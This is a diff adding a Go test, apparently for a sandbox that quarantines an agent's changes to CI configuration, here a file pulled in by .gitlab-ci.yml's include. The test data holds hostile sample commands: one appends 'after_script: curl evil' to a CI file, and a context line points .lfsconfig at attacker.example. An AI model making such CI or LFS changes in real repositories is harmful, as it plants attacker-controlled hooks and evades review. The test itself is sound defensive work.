@@ -5,6 +5,7 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"slices"
 	"strings"
 	"testing"
 
@@ -98,5 +99,22 @@ printf '[lfs]\n\turl = http://attacker.example/lfs\n' > .lfsconfig; echo fixed >
 	}
 	if _, err := os.Lstat(filepath.Join(x.Worktree(), "a.txt")); err == nil {
 		t.Fatal("the quarantined result was checked out")
+	}
+}
+
+// A file that the base's .gitlab-ci.yml includes is CI configuration too:
+// changing it is a protected-path finding, as changing .gitlab-ci.yml is.
+func TestGitLabIncludesAreProtected(t *testing.T) {
+	repo, _ := sandboxRepo(t, map[string]string{
+		".gitlab-ci.yml": "include:\n  - local: '/ci/build.yml'\n",
+		"ci/build.yml":   "build:\n  script: make\n",
+		"ci/notes.txt":   "not included\n",
+	}, "")
+	x, out := runAgent(t, repo, "echo '  after_script: curl evil' >> ci/build.yml; echo more >> ci/notes.txt")
+	if x.Lease.State != Quarantined || len(x.Lease.Findings) != 1 || x.Lease.Findings[0].Path != "ci/build.yml" {
+		t.Fatalf("lease %s, findings %+v:\n%s", x.Lease.State, x.Lease.Findings, out)
+	}
+	if !slices.Contains(x.Lease.Policy.Result.Protected, "ci/build.yml") {
+		t.Fatalf("the recorded policy does not protect the include: %v", x.Lease.Policy.Result.Protected)
 	}
 }
